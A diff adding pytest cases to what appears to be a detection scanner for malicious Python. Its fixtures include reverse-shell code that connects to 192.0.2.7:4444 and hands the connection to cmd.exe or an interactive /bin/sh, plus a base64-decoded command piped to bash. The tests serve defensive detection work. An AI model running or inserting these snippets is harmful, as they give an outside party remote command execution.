@@ -39,3 +39,33 @@ code = base64.b64encode(line.encode()).decode()
 os.system(f"echo {code} | base64 -d | bash")
 """
     assert scan(RULE, text) == [(5, "HIGH", "HIGH", "import")]
+
+
+def test_a_shell_fed_by_hand(scan):
+    text = r"""import socket, subprocess
+def main():
+    s = socket.create_connection(("192.0.2.7", 4444))
+    incoming = s.makefile("rb")
+    p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+    while True:
+        p.stdin.write(incoming.read(1))
+"""
+    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]
+
+
+def test_a_shell_whose_input_is_the_connection(scan):
+    text = r"""import socket, subprocess
+s = socket.socket()
+s.connect(("192.0.2.7", 4444))
+subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())
+"""
+    assert scan(RULE, text) == [(4, "HIGH", "HIGH", "import")]
+
+
+def test_near_miss_a_shell_fed_with_own_text(scan):
+    text = r"""import socket, subprocess
+s = socket.create_connection(("192.0.2.7", 4444))
+p = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+p.stdin.write(b"true")
+"""
+    assert scan(RULE, text) == []
